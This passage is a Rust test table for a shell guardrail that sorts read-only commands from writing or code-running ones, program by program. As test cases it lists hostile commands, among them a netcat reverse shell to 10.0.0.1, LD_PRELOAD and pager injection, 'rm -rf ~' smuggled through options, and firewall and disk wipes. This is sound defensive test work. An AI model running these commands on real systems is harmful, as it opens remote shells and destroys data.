//! The read-only list, program by program: its read forms run without a hold, each of its
//! writing forms (and anything that makes it run other code) does not. Every program on the
//! list has a row, so a program added without its forms fails here.
//!
//! Kept whole past ~700 lines: one table of cases, a row per program on the list.

use std::collections::BTreeSet;

use super::{super::analyze_shell, *};
use crate::inspect::guardrails::shell::ShellKind;

/// (program, read forms, writing forms). A writing form is anything that is not a read.
const TABLE: &[(&str, &[&str], &[&str])] = &[
    // files and text
    (
        "cat",
        &["cat /etc/os-release", "cat -n a b"],
        &["cat a > b"],
    ),
    ("tac", &["tac /var/log/syslog"], &["tac a >> b"]),
    (
        "head",
        &["head -n 20 /var/log/syslog"],
        &["head a > /etc/x"],
    ),
    (
        "tail",
        &["tail -f /var/log/nginx/error.log", "tail -n 100 x"],
        &["tail x > y"],
    ),
    ("nl", &["nl x"], &["nl x > y"]),
    ("wc", &["wc -l x"], &["wc x > y"]),
    ("cut", &["cut -d: -f1 /etc/passwd"], &["cut -f1 x > y"]),
    ("paste", &["paste a b"], &["paste a b > c"]),
    ("join", &["join a b"], &["join a b > c"]),
    ("comm", &["comm -12 a b"], &["comm a b > c"]),
    ("column", &["column -t x"], &["column -t x > y"]),
    ("fold", &["fold -w 80 x"], &["fold x > y"]),
    ("fmt", &["fmt x"], &["fmt x > y"]),
    ("pr", &["pr x"], &["pr x > y"]),
    ("expand", &["expand x"], &["expand x > y"]),
    ("unexpand", &["unexpand x"], &["unexpand x > y"]),
    ("rev", &["rev x"], &["rev x > y"]),
    ("tr", &["tr a-z A-Z < x"], &["tr a b < x > y"]),
    ("look", &["look word"], &["look w > y"]),
    ("tsort", &["tsort x"], &["tsort x > y"]),
    ("numfmt", &["numfmt --to=iec 1048576"], &["numfmt 1 > y"]),
    ("od", &["od -c x"], &["od x > y"]),
    ("hexdump", &["hexdump -C x"], &["hexdump x > y"]),
    ("hd", &["hd x"], &["hd x > y"]),
    ("strings", &["strings /bin/ls"], &["strings x > y"]),
    ("base64", &["base64 -d x"], &["base64 x > y"]),
    ("base32", &["base32 x"], &["base32 x > y"]),
    ("basenc", &["basenc --base64 x"], &["basenc x > y"]),
    ("md5sum", &["md5sum x"], &["md5sum x > y"]),
    ("sha1sum", &["sha1sum x"], &["sha1sum x > y"]),
    ("sha224sum", &["sha224sum x"], &["sha224sum x > y"]),
    ("sha256sum", &["sha256sum -c SUMS"], &["sha256sum x > y"]),
    ("sha384sum", &["sha384sum x"], &["sha384sum x > y"]),
    ("sha512sum", &["sha512sum x"], &["sha512sum x > y"]),
    ("b2sum", &["b2sum x"], &["b2sum x > y"]),
    ("cksum", &["cksum x"], &["cksum x > y"]),
    ("sum", &["sum x"], &["sum x > y"]),
    ("cmp", &["cmp a b"], &["cmp a b > c"]),
    ("diff", &["diff -u a b"], &["diff a b > c"]),
    ("diff3", &["diff3 a b c"], &["diff3 a b c > d"]),
    (
        "grep",
        &["grep -rn error /var/log", "grep -E 'a|b' x"],
        &["grep x y > z"],
    ),
    ("egrep", &["egrep 'a|b' x"], &["egrep x y > z"]),
    ("fgrep", &["fgrep x y"], &["fgrep x y > z"]),
    ("zgrep", &["zgrep x y.gz"], &["zgrep x y > z"]),
    ("zegrep", &["zegrep x y.gz"], &["zegrep x y > z"]),
    ("zfgrep", &["zfgrep x y.gz"], &["zfgrep x y > z"]),
    ("zcat", &["zcat x.gz"], &["zcat x.gz > y"]),
    ("bzcat", &["bzcat x.bz2"], &["bzcat x > y"]),
    ("xzcat", &["xzcat x.xz"], &["xzcat x > y"]),
    ("zstdcat", &["zstdcat x.zst"], &["zstdcat x > y"]),
    ("lz4cat", &["lz4cat x.lz4"], &["lz4cat x > y"]),
    ("zipinfo", &["zipinfo x.zip"], &["zipinfo x > y"]),
    ("ls", &["ls -la /etc", "ls -lh --sort=size"], &["ls > y"]),
    ("dir", &["dir"], &["dir > y"]),
    ("vdir", &["vdir"], &["vdir > y"]),
    ("stat", &["stat /etc/hosts"], &["stat x > y"]),
    ("readlink", &["readlink -f x"], &["readlink x > y"]),
    ("realpath", &["realpath x"], &["realpath x > y"]),
    ("basename", &["basename /a/b"], &["basename x > y"]),
    ("dirname", &["dirname /a/b"], &["dirname x > y"]),
    ("namei", &["namei -l /etc/hosts"], &["namei x > y"]),
    ("lsattr", &["lsattr x"], &["lsattr x > y"]),
    ("getfacl", &["getfacl x"], &["getfacl x > y"]),
    ("du", &["du -sh /var/*"], &["du > y"]),
    ("df", &["df -h", "df -i"], &["df > y"]),
    ("jq", &["jq .items x.json"], &["jq . x > y"]),
    ("locate", &["locate nginx.conf"], &["locate x > y"]),
    ("plocate", &["plocate x"], &["plocate x > y"]),
    ("mlocate", &["mlocate x"], &["mlocate x > y"]),
    ("whereis", &["whereis nginx"], &["whereis x > y"]),
    ("which", &["which nginx"], &["which x > y"]),
    ("objdump", &["objdump -d x"], &["objdump x > y"]),
    ("readelf", &["readelf -h x"], &["readelf x > y"]),
    ("nm", &["nm x"], &["nm x > y"]),
    ("size", &["size x"], &["size x > y"]),
    (
        "sort",
        &["sort -k2 -n x", "sort -t o x", "sort -u x"],
        &[
            "sort -o x x",
            "sort --output=x y",
            "sort --out x y",
            "sort --compress-program=sh x",
            "sort $FLAGS x",
        ],
    ),
    ("shuf", &["shuf -n 5 x"], &["shuf -o y x"]),
    ("sdiff", &["sdiff a b"], &["sdiff -o c a b"]),
    ("tree", &["tree -L 2 /etc"], &["tree -o y"]),
    ("file", &["file /bin/ls"], &["file -C -m x"]),
    ("iconv", &["iconv -f latin1 -t utf8 x"], &["iconv -o y x"]),
    ("yq", &["yq .a x.yaml"], &["yq -i '.a = 1' x.yaml"]),
    (
        "xmllint",
        &["xmllint --xpath //a x.xml"],
        &["xmllint --output y x"],
    ),
    ("man", &["man 5 crontab"], &["man -P 'sh -c id' ls"]),
    ("rg", &["rg -n error /var/log"], &["rg --pre ./x pattern"]),
    ("fd", &["fd nginx /etc"], &["fd -x rm"]),
    ("fdfind", &["fdfind conf /etc"], &["fdfind -X rm"]),
    ("uniq", &["uniq -c x", "sort x | uniq"], &["uniq x y"]),
    ("xxd", &["xxd x", "xxd -r x"], &["xxd x y"]),
    (
        "tee",
        &["echo x | tee /dev/null", "echo x | tee"],
        &["echo x | tee /tmp/y", "tee -a /var/log/x"],
    ),
    (
        "less",
        &["less x", "ls | less", "less +G x"],
        &["less -o log x", "less '+!rm -rf ~' x"],
    ),
    ("more", &["more x"], &["more -k keys x"]),
    ("most", &["most x"], &["most x > y"]),
    ("pg", &["pg x"], &["pg x > y"]),
    ("zless", &["zless x.gz"], &["zless -o log x"]),
    ("zmore", &["zmore x.gz"], &["zmore x > y"]),
    (
        "find",
        &[
            "find /var/log -name '*.log' -mtime +7",
            "find . -name -delete",
            "find . -exec grep -l x {} +",
        ],
        &[
            "find . -delete",
            "find /tmp -fprint /tmp/x",
            "find . -exec rm {} ;",
            "find . $EXPR",
        ],
    ),
    (
        "awk",
        &[
            "awk '{print $1}' x",
            "awk -F: '$3 > 100' /etc/passwd",
            "awk '/err|warn/' x",
        ],
        &[
            "awk 'BEGIN{system(\"id\")}'",
            "awk '{print > \"f\"}' x",
            "awk -f prog.awk x",
            "awk '{print | \"sh\"}' x",
        ],
    ),
    (
        "gawk",
        &["gawk '{n++} END{print n}' x"],
        &["gawk '@load \"x\"'", "gawk --profile '{print}' x"],
    ),
    ("mawk", &["mawk '{print}' x"], &["mawk -W exec x"]),
    (
        "nawk",
        &["nawk '{print}' x"],
        &["nawk '{\"date\" | getline d}'"],
    ),
    (
        "sed",
        &[
            "sed -n '1,10p' x",
            "sed 's/a/b/g' x",
            "sed -E 's/(a|b)/x/' x",
        ],
        &[
            "sed -i 's/a/b/' x",
            "sed -n 'w /tmp/x' x",
            "sed 'e id' x",
            "sed 's/a/b/w f' x",
            "sed -f x.sed y",
        ],
    ),
    (
        "tar",
        &["tar -tzf x.tgz", "tar tf x.tar", "tar -czf - /etc"],
        &[
            "tar -xzf x.tgz",
            "tar -czf x.tgz /etc",
            "tar --remove-files -cf - x",
            "tar -xf x --to-command=sh",
            "tar -cf - x -I sh",
        ],
    ),
    (
        "gzip",
        &["gzip -l x.gz", "gzip -c x"],
        &["gzip x", "gzip -d x.gz"],
    ),
    (
        "gunzip",
        &["gunzip -c x.gz", "gunzip -t x.gz"],
        &["gunzip x.gz"],
    ),
    ("xz", &["xz -l x.xz"], &["xz x"]),
    ("unxz", &["unxz -c x.xz"], &["unxz x.xz"]),
    ("bzip2", &["bzip2 -c x"], &["bzip2 x"]),
    ("bunzip2", &["bunzip2 -c x.bz2"], &["bunzip2 x.bz2"]),
    ("zstd", &["zstd -l x.zst"], &["zstd x", "zstd -o y x"]),
    (
        "unzstd",
        &["unzstd -c x.zst"],
        &["unzstd x.zst", "unzstd --rm -c x.zst"],
    ),
    ("lz4", &["lz4 -c x"], &["lz4 x"]),
    ("unlz4", &["unlz4 -c x.lz4"], &["unlz4 x.lz4"]),
    ("pigz", &["pigz -c x"], &["pigz x"]),
    (
        "unzip",
        &["unzip -l x.zip", "unzip -p x.zip a"],
        &["unzip x.zip"],
    ),
    // processes and the machine
    ("ps", &["ps aux", "ps -ef --forest"], &["ps > y"]),
    ("pgrep", &["pgrep -fl nginx"], &["pgrep x > y"]),
    ("pidof", &["pidof nginx"], &["pidof x > y"]),
    ("pstree", &["pstree -p"], &["pstree > y"]),
    ("pmap", &["pmap 1"], &["pmap 1 > y"]),
    ("pwdx", &["pwdx 1"], &["pwdx 1 > y"]),
    ("top", &["top -b -n 1"], &["top -b -n1 > y"]),
    ("free", &["free -m"], &["free > y"]),
    ("vmstat", &["vmstat 1 5"], &["vmstat > y"]),
    ("mpstat", &["mpstat -P ALL"], &["mpstat > y"]),
    ("iostat", &["iostat -x 1 3"], &["iostat > y"]),
    ("pidstat", &["pidstat 1 3"], &["pidstat > y"]),
    ("uptime", &["uptime"], &["uptime > y"]),
    ("w", &["w"], &["w > y"]),
    ("who", &["who -b"], &["who > y"]),
    ("users", &["users"], &["users > y"]),
    ("last", &["last -n 20"], &["last > y"]),
    ("lastb", &["lastb"], &["lastb > y"]),
    ("lastlog", &["lastlog"], &["lastlog > y"]),
    ("id", &["id", "id -un"], &["id > y"]),
    ("whoami", &["whoami"], &["whoami > y"]),
    ("groups", &["groups"], &["groups > y"]),
    ("logname", &["logname"], &["logname > y"]),
    ("uname", &["uname -a"], &["uname > y"]),
    ("arch", &["arch"], &["arch > y"]),
    ("nproc", &["nproc"], &["nproc > y"]),
    ("getconf", &["getconf PAGESIZE"], &["getconf X > y"]),
    ("lscpu", &["lscpu"], &["lscpu > y"]),
    ("lsmem", &["lsmem"], &["lsmem > y"]),
    ("lspci", &["lspci -v"], &["lspci > y"]),
    ("lsusb", &["lsusb"], &["lsusb > y"]),
    ("lsmod", &["lsmod"], &["lsmod > y"]),
    ("lsblk", &["lsblk -f"], &["lsblk > y"]),
    ("lsns", &["lsns"], &["lsns > y"]),
    ("lslocks", &["lslocks"], &["lslocks > y"]),
    ("lsipc", &["lsipc"], &["lsipc > y"]),
    ("lsof", &["lsof -i :80", "lsof -p 1"], &["lsof > y"]),
    ("blkid", &["blkid"], &["blkid > y"]),
    ("findmnt", &["findmnt /"], &["findmnt > y"]),
    ("dmidecode", &["dmidecode -t system"], &["dmidecode > y"]),
    ("sensors", &["sensors"], &["sensors > y"]),
    ("hostid", &["hostid"], &["hostid > y"]),
    ("tty", &["tty"], &["tty > y"]),
    ("locale", &["locale"], &["locale > y"]),
    ("printenv", &["printenv PATH"], &["printenv > y"]),
    ("cal", &["cal"], &["cal > y"]),
    (
        "watch",
        &["watch -n 1 'ps aux'", "watch df -h"],
        &["watch 'rm x'"],
    ),
    ("systemd-cgls", &["systemd-cgls"], &["systemd-cgls > y"]),
    (
        "systemd-cgtop",
        &["systemd-cgtop -n 1"],
        &["systemd-cgtop > y"],
    ),
    (
        "systemd-detect-virt",
        &["systemd-detect-virt"],
        &["systemd-detect-virt > y"],
    ),
    ("atq", &["atq"], &["atq > y"]),
    ("getenforce", &["getenforce"], &["getenforce > y"]),
    ("sestatus", &["sestatus"], &["sestatus > y"]),
    ("aa-status", &["aa-status"], &["aa-status > y"]),
    (
        "apparmor_status",
        &["apparmor_status"],
        &["apparmor_status > y"],
    ),
    ("pvs", &["pvs"], &["pvs > y"]),
    ("vgs", &["vgs"], &["vgs > y"]),
    ("lvs", &["lvs"], &["lvs > y"]),
    ("pvdisplay", &["pvdisplay"], &["pvdisplay > y"]),
    ("vgdisplay", &["vgdisplay"], &["vgdisplay > y"]),
    ("lvdisplay", &["lvdisplay"], &["lvdisplay > y"]),
    ("xfs_info", &["xfs_info /"], &["xfs_info / > y"]),
    ("dumpe2fs", &["dumpe2fs -h /dev/sda1"], &["dumpe2fs x > y"]),
    (
        "named-checkconf",
        &["named-checkconf"],
        &["named-checkconf > y"],
    ),
    (
        "named-checkzone",
        &["named-checkzone example.com x"],
        &["named-checkzone a b > y"],
    ),
    ("netstat", &["netstat -tulpn"], &["netstat > y"]),
    ("ping", &["ping -c 3 10.0.0.1"], &["ping x > y"]),
    ("ping6", &["ping6 -c 3 ::1"], &["ping6 x > y"]),
    (
        "traceroute",
        &["traceroute 10.0.0.1"],
        &["traceroute x > y"],
    ),
    ("traceroute6", &["traceroute6 ::1"], &["traceroute6 x > y"]),
    ("tracepath", &["tracepath 10.0.0.1"], &["tracepath x > y"]),
    ("mtr", &["mtr -r -c 5 10.0.0.1"], &["mtr x > y"]),
    ("dig", &["dig +short example.com"], &["dig x > y"]),
    ("host", &["host example.com"], &["host x > y"]),
    ("nslookup", &["nslookup example.com"], &["nslookup x > y"]),
    ("drill", &["drill example.com"], &["drill x > y"]),
    ("whois", &["whois example.com"], &["whois x > y"]),
    ("getent", &["getent hosts db"], &["getent x > y"]),
    // shell builtins
    ("echo", &["echo hello"], &["echo x > y"]),
    ("true", &["true"], &["true > y"]),
    ("false", &["false"], &["false > y"]),
    (":", &[":"], &[": > y"]),
    ("test", &["test -f x"], &["test x > y"]),
    ("[", &["[ -d /etc ]"], &["[ x ] > y"]),
    ("pwd", &["pwd"], &["pwd > y"]),
    ("cd", &["cd /var/log", "cd"], &["cd / > y"]),
    ("pushd", &["pushd /tmp"], &["pushd x > y"]),
    ("popd", &["popd"], &["popd > y"]),
    ("dirs", &["dirs"], &["dirs > y"]),
    (
        "alias",
        &["alias", "alias ll='ls -l'"],
        &["alias x='rm -rf /tmp/x'"],
    ),
    ("unalias", &["unalias ll"], &["unalias x > y"]),
    ("unset", &["unset x"], &["unset x > y"]),
    ("hash", &["hash", "hash -r"], &["hash > y"]),
    ("type", &["type ls"], &["type x > y"]),
    (
        "trap",
        &["trap", "trap 'echo bye' EXIT"],
        &["trap 'rm -f /tmp/x' EXIT"],
    ),
    ("eval", &["eval echo hi"], &["eval 'rm x'"]),
    ("let", &["let x=1+2"], &["let x=1 > y"]),
    ("shift", &["shift"], &["shift > y"]),
    ("return", &["return"], &["return > y"]),
    ("break", &["break"], &["break > y"]),
    ("continue", &["continue"], &["continue > y"]),
    ("exit", &["exit", "exit 3"], &["exit > y"]),
    ("logout", &["logout"], &["logout > y"]),
    ("times", &["times"], &["times > y"]),
    ("jobs", &["jobs"], &["jobs > y"]),
    ("wait", &["wait"], &["wait > y"]),
    ("help", &["help cd"], &["help > y"]),
    ("caller", &["caller"], &["caller > y"]),
    ("compgen", &["compgen -c"], &["compgen -c > y"]),
    ("clear", &["clear"], &["clear > y"]),
    ("tput", &["tput cols"], &["tput cols > y"]),
    ("sleep", &["sleep 1"], &["sleep 1 > y"]),
    ("yes", &["yes | head -1"], &["yes > y"]),
    ("seq", &["seq 10"], &["seq 10 > y"]),
    ("expr", &["expr 1 + 2"], &["expr 1 > y"]),
    ("factor", &["factor 12"], &["factor 12 > y"]),
    (
        "journalctl",
        &[
            "journalctl -u nginx --since today",
            "journalctl -b -p err",
            "journalctl -n 50 --no-pager",
        ],
        &[
            "journalctl --vacuum-time=1d",
            "journalctl --rotate",
            "journalctl --cursor-file=/tmp/c",
            "journalctl --vac=1",
        ],
    ),
    (
        "dmesg",
        &["dmesg -T", "dmesg --level=err"],
        &["dmesg -c", "dmesg --clear", "dmesg -n 1"],
    ),
    (
        "ss",
        &["ss -ltnp", "ss -s"],
        &["ss -K dst 10.0.0.1", "ss -D /tmp/x"],
    ),
    (
        "arp",
        &["arp -an"],
        &["arp -d 10.0.0.1", "arp -s 10.0.0.1 00:11:22:33:44:55"],
    ),
    (
        "tcpdump",
        &["tcpdump -i eth0 -c 10 port 80", "tcpdump -r x.pcap"],
        &["tcpdump -w x.pcap", "tcpdump -z sh -w x -C 1"],
    ),
    ("fuser", &["fuser -v 80/tcp"], &["fuser -k 80/tcp"]),
    (
        "history",
        &["history", "history 20"],
        &["history -w /tmp/h", "history -a"],
    ),
    (
        "systemctl",
        &[
            "systemctl status nginx",
            "systemctl --failed",
            "systemctl",
            "systemctl list-units --type=service",
            "systemctl is-active nginx",
            "systemctl show -p ActiveState nginx",
        ],
        &[
            "systemctl stop nginx",
            "systemctl restart nginx",
            "systemctl enable x",
            "systemctl daemon-reload",
            "systemctl $VERB nginx",
        ],
    ),
    (
        "hostnamectl",
        &["hostnamectl", "hostnamectl status", "hostnamectl hostname"],
        &["hostnamectl set-hostname x", "hostnamectl hostname x"],
    ),
    (
        "timedatectl",
        &["timedatectl", "timedatectl status"],
        &[
            "timedatectl set-time '2020-01-01'",
            "timedatectl set-ntp false",
        ],
    ),
    (
        "localectl",
        &["localectl status"],
        &["localectl set-locale LANG=C"],
    ),
    (
        "loginctl",
        &["loginctl list-sessions", "loginctl"],
        &["loginctl poweroff", "loginctl terminate-user x"],
    ),
    (
        "networkctl",
        &["networkctl status", "networkctl"],
        &["networkctl down eth0", "networkctl reload"],
    ),
    (
        "resolvectl",
        &[
            "resolvectl status",
            "resolvectl query example.com",
            "resolvectl dns eth0",
        ],
        &["resolvectl flush-caches", "resolvectl dns eth0 1.1.1.1"],
    ),
    (
        "busctl",
        &["busctl list", "busctl tree org.freedesktop.login1"],
        &[
            "busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager PowerOff b false",
        ],
    ),
    (
        "systemd-analyze",
        &["systemd-analyze blame", "systemd-analyze critical-chain"],
        &["systemd-analyze log-level debug"],
    ),
    ("coredumpctl", &["coredumpctl list"], &["coredumpctl debug"]),
    (
        "machinectl",
        &["machinectl list"],
        &["machinectl poweroff x"],
    ),
    (
        "ip",
        &[
            "ip addr",
            "ip a s",
            "ip route show",
            "ip r",
            "ip link show eth0",
            "ip -s link",
            "ip addr show dev eth0",
            "ip -br a",
            "ip route get 10.0.0.1",
            "ip neigh",
        ],
        &[
            "ip addr add 10.0.0.2/24 dev eth0",
            "ip link set eth0 down",
            "ip route del default",
            "ip r a 1.2.3.4 dev x",
            "ip l s eth0 down",
            "ip -batch x",
            "ip netns exec x id",
            "ip route flush all",
        ],
    ),
    (
        "iptables",
        &["iptables -L -n -v", "iptables -S", "iptables -t nat -L"],
        &[
            "iptables -F",
            "iptables -A INPUT -j DROP",
            "iptables -L -Z",
            "iptables -P INPUT DROP",
        ],
    ),
    ("ip6tables", &["ip6tables -L"], &["ip6tables -F"]),
    (
        "iptables-legacy",
        &["iptables-legacy -L"],
        &["iptables-legacy -F"],
    ),
    (
        "ip6tables-legacy",
        &["ip6tables-legacy -S"],
        &["ip6tables-legacy -X"],
    ),
    (
        "iptables-nft",
        &["iptables-nft -L"],
        &["iptables-nft -D INPUT 1"],
    ),
    (
        "ip6tables-nft",
        &["ip6tables-nft -L"],
        &["ip6tables-nft -F"],
    ),
    (
        "iptables-save",
        &["iptables-save"],
        &["iptables-save -f /tmp/x"],
    ),
    (
        "ip6tables-save",
        &["ip6tables-save"],
        &["ip6tables-save -f /etc/x"],
    ),
    (
        "nft",
        &["nft list ruleset"],
        &["nft flush ruleset", "nft -f rules.nft"],
    ),
    (
        "tc",
        &["tc qdisc show", "tc -s qdisc ls dev eth0"],
        &[
            "tc qdisc add dev eth0 root netem delay 100ms",
            "tc qdisc del dev eth0 root",
        ],
    ),
    (
        "ethtool",
        &["ethtool eth0", "ethtool -i eth0", "ethtool -S eth0"],
        &["ethtool -s eth0 speed 100", "ethtool -K eth0 tso off"],
    ),
    (
        "route",
        &["route", "route -n"],
        &["route add default gw 10.0.0.1", "route del default"],
    ),
    (
        "conntrack",
        &["conntrack -L", "conntrack -C"],
        &["conntrack -F", "conntrack -D -s 10.0.0.1"],
    ),
    (
        "iw",
        &["iw dev", "iw dev wlan0 link"],
        &["iw dev wlan0 set type monitor", "iw dev wlan0 disconnect"],
    ),
    (
        "nmcli",
        &[
            "nmcli",
            "nmcli device status",
            "nmcli con show",
            "nmcli general",
        ],
        &[
            "nmcli con up x",
            "nmcli networking off",
            "nmcli dev disconnect eth0",
        ],
    ),
    (
        "nc",
        &["nc -zv 10.0.0.1 5432"],
        &[
            "nc 10.0.0.1 80",
            "nc -l 8080",
            "nc -e /bin/sh 10.0.0.1 4444",
        ],
    ),
    (
        "ncat",
        &["ncat -z 10.0.0.1 22"],
        &["ncat --exec /bin/sh x 1"],
    ),
    ("netcat", &["netcat -z x 1"], &["netcat x 1"]),
    (
        "fdisk",
        &["fdisk -l", "fdisk -l /dev/sda"],
        &["fdisk /dev/sda"],
    ),
    (
        "sfdisk",
        &["sfdisk -l", "sfdisk -d /dev/sda"],
        &["sfdisk /dev/sda"],
    ),
    (
        "parted",
        &["parted -l", "parted /dev/sda print"],
        &["parted /dev/sda rm 1"],
    ),
    ("sgdisk", &["sgdisk -p /dev/sda"], &["sgdisk -Z /dev/sda"]),
    ("gdisk", &["gdisk -l /dev/sda"], &["gdisk /dev/sda"]),
    (
        "mdadm",
        &["mdadm --detail /dev/md0", "mdadm -E /dev/sda1"],
        &["mdadm --stop /dev/md0", "mdadm --create /dev/md0"],
    ),
    (
        "smartctl",
        &["smartctl -a /dev/sda", "smartctl -H /dev/sda"],
        &["smartctl -t long /dev/sda", "smartctl -s off /dev/sda"],
    ),
    (
        "tune2fs",
        &["tune2fs -l /dev/sda1"],
        &["tune2fs -c 0 /dev/sda1"],
    ),
    (
        "zpool",
        &["zpool status", "zpool list"],
        &["zpool destroy tank", "zpool scrub tank"],
    ),
    (
        "zfs",
        &["zfs list", "zfs get all tank"],
        &["zfs destroy tank/x", "zfs set compression=on tank"],
    ),
    (
        "btrfs",
        &[
            "btrfs filesystem df /",
            "btrfs fi show",
            "btrfs subvolume list /",
        ],
        &[
            "btrfs subvolume delete /x",
            "btrfs balance start /",
            "btrfs device stats -z /",
        ],
    ),
    (
        "date",
        &["date", "date +%s", "date -u -d yesterday"],
        &["date -s '2020-01-01'", "date 010112002020", "date --set=x"],
    ),
    (
        "hostname",
        &["hostname", "hostname -f", "hostname -I"],
        &["hostname newname", "hostname -F /etc/hostname"],
    ),
    (
        "sysctl",
        &["sysctl -a", "sysctl net.ipv4.ip_forward"],
        &[
            "sysctl -w net.ipv4.ip_forward=1",
            "sysctl net.ipv4.ip_forward=1",
            "sysctl -p",
            "sysctl --system",
        ],
    ),
    (
        "mount",
        &["mount", "mount -l", "mount -t ext4"],
        &["mount /dev/sdb1 /mnt", "mount -o remount,ro /"],
    ),
    (
        "swapon",
        &["swapon --show", "swapon -s"],
        &["swapon /swapfile", "swapon -a"],
    ),
    ("fc", &["fc -l", "fc -ln -5"], &["fc -s echo=", "fc 3"]),
    (
        "sar",
        &[
            "sar -u 1 3",
            "sar -n DEV 1 1",
            "sar -f /var/log/sysstat/sa07",
        ],
        &["sar -o /tmp/sa 1 3"],
    ),
    (
        "chronyc",
        &["chronyc tracking", "chronyc -n sources -v"],
        &["chronyc makestep", "chronyc settime 10:00", "chronyc"],
    ),
    (
        "ntpq",
        &["ntpq -p", "ntpq -pn", "ntpq -c rv"],
        &["ntpq -c ':config disable monitor'", "ntpq"],
    ),
    (
        "kill",
        &["kill -l", "kill -0 1234"],
        &["kill 1234", "kill -9 1234", "kill -s TERM 1234"],
    ),
    ("ulimit", &["ulimit -a", "ulimit -n"], &["ulimit -n 100000"]),
    ("umask", &["umask", "umask -S"], &["umask 000"]),
    (
        "set",
        &["set", "set -euo pipefail", "set -x", "set -o"],
        &["set -o vi", "set -a", "set -k", "set -o posix"],
    ),
    (
        "shopt",
        &["shopt", "shopt -s histappend", "shopt extglob"],
        &["shopt -u interactive_comments", "shopt -s extglob"],
    ),
    (
        "bind",
        &["bind -p", "bind -P"],
        &[
            "bind '\"\\C-b\": backward-delete-char'",
            "bind -x '\"\\C-t\": id'",
        ],
    ),
    (
        "stty",
        &["stty -a", "stty size"],
        &["stty erase '#'", "stty -echo", "stty raw"],
    ),
    (
        "export",
        &["export", "export -p", "export LANG=C", "export TZ=UTC"],
        &[
            "export LD_PRELOAD=/tmp/x.so",
            "export PAGER='sh -c id'",
            "export LESSOPEN",
            "export -f f",
            "export PATH=/tmp:$PATH",
        ],
    ),
    (
        "declare",
        &["declare -p", "declare -f", "declare x=1"],
        &[
            "declare -n r=PATH",
            "declare -x LD_PRELOAD=x",
            "declare PATH=/tmp",
        ],
    ),
    (
        "typeset",
        &["typeset -p x"],
        &["typeset -x GIT_SSH_COMMAND=id"],
    ),
    ("local", &["local x=1"], &["local -n r=PATH"]),
    (
        "readonly",
        &["readonly x=1", "readonly PROMPT_COMMAND=id"],
        &["readonly PROMPT_COMMAND='rm x'", "readonly -x PAGER=sh"],
    ),
    (
        "read",
        &["read x", "read -r -p 'go? ' answer"],
        &["read PATH", "read -r LD_PRELOAD"],
    ),
    (
        "mapfile",
        &["mapfile -t lines < x"],
        &["mapfile -C id -c 1 x < y"],
    ),
    (
        "readarray",
        &["readarray -t lines < x"],
        &["readarray -C id x < y"],
    ),
    (
        "printf",
        &["printf '%s\\n' a", "printf -v x '%d' 1"],
        &["printf -v PATH '%s' /tmp", "printf x > y"],
    ),
    ("getopts", &["getopts ab opt"], &["getopts ab PATH"]),
    // tools
    (
        "git",
        &[
            "git log -5",
            "git status",
            "git diff HEAD~1",
            "git show --stat",
            "git blame x",
            "git branch -a",
            "git remote -v",
            "git config --list",
            "git -C /srv/app log -1",
            "git stash list",
            "git tag -l",
        ],
        &[
            "git commit -m x",
            "git push",
            "git reset --hard",
            "git clean -fdx",
            "git checkout .",
            "git branch -D x",
            "git -c core.pager='rm -rf ~' log",
            "git log --output=/tmp/x",
            "git diff --ext-diff",
            "git config user.name x",
            "git tag v1",
            "git grep -O'sh -c id' x",
            "git branch newbranch",
        ],
    ),
    (
        "kubectl",
        &[
            "kubectl get pods -A",
            "kubectl describe pod x -n prod",
            "kubectl logs -f deploy/x --tail=100",
            "kubectl top nodes",
            "kubectl explain pod",
            "kubectl --context prod get svc",
            "kubectl config get-contexts",
            "kubectl auth can-i get pods",
            "kubectl rollout status deploy/x",
        ],
        &[
            "kubectl delete pod x",
            "kubectl apply -f x.yaml",
            "kubectl exec -it x -- sh",
            "kubectl scale deploy x --replicas=0",
            "kubectl rollout restart deploy/x",
            "kubectl edit deploy x",
            "kubectl config use-context prod",
            "kubectl drain node1",
            "kubectl cp x:/a b",
        ],
    ),
    ("oc", &["oc get pods"], &["oc delete project p"]),
    (
        "kubecolor",
        &["kubecolor get pods"],
        &["kubecolor apply -f x"],
    ),
    (
        "helm",
        &[
            "helm list -A",
            "helm status api",
            "helm history api",
            "helm get values api",
            "helm --qps 5 list",
            "helm --kube-as-user admin status api",
        ],
        &[
            "helm uninstall api",
            "helm upgrade api ./chart",
            "helm rollback api 1",
            "helm repo add x y",
        ],
    ),
    (
        "docker",
        &[
            "docker ps -a",
            "docker logs --tail 100 api",
            "docker inspect api",
            "docker images",
            "docker stats --no-stream",
            "docker container ls",
            "docker compose ps",
            "docker system df",
        ],
        &[
            "docker rm -f api",
            "docker run -it ubuntu",
            "docker exec api sh",
            "docker stop api",
            "docker system prune -af",
            "docker compose down",
            "docker image rm x",
        ],
    ),
    ("podman", &["podman ps"], &["podman rm x"]),
    ("nerdctl", &["nerdctl ps"], &["nerdctl kill x"]),
    (
        "crictl",
        &["crictl ps", "crictl pods", "crictl logs x"],
        &["crictl rm x", "crictl stopp x"],
    ),
    (
        "dpkg",
        &[
            "dpkg -l",
            "dpkg -L nginx",
            "dpkg -s nginx",
            "dpkg -S /bin/ls",
        ],
        &["dpkg -i x.deb", "dpkg --purge nginx", "dpkg -r x"],
    ),
    (
        "dpkg-query",
        &["dpkg-query -W nginx"],
        &["dpkg-query -W > y"],
    ),
    (
        "apt",
        &["apt list --installed", "apt show nginx", "apt policy nginx"],
        &["apt install nginx", "apt remove nginx", "apt update"],
    ),
    (
        "apt-cache",
        &["apt-cache policy nginx", "apt-cache show nginx"],
        &["apt-cache gencaches"],
    ),
    ("apt-mark", &["apt-mark showhold"], &["apt-mark hold nginx"]),
    (
        "rpm",
        &["rpm -qa", "rpm -qi nginx", "rpm -V nginx"],
        &["rpm -e nginx", "rpm -i x.rpm", "rpm -Uvh x.rpm"],
    ),
    (
        "yum",
        &["yum list installed", "yum info nginx", "yum history"],
        &[
            "yum install nginx",
            "yum remove nginx",
            "yum history undo 3",
        ],
    ),
    (
        "dnf",
        &["dnf list installed", "dnf repolist"],
        &["dnf upgrade"],
    ),
    (
        "apk",
        &["apk info", "apk list -I"],
        &["apk add nginx", "apk del nginx"],
    ),
    (
        "pip",
        &["pip list", "pip show requests", "pip freeze"],
        &["pip install x", "pip uninstall -y x"],
    ),
    ("pip3", &["pip3 list"], &["pip3 install x"]),
    ("snap", &["snap list"], &["snap remove x"]),
    ("flatpak", &["flatpak list"], &["flatpak uninstall x"]),
    (
        "curl",
        &[
            "curl -sS -o /dev/null -w '%{http_code}' http://x",
            "curl -sS http://localhost:8080/health",
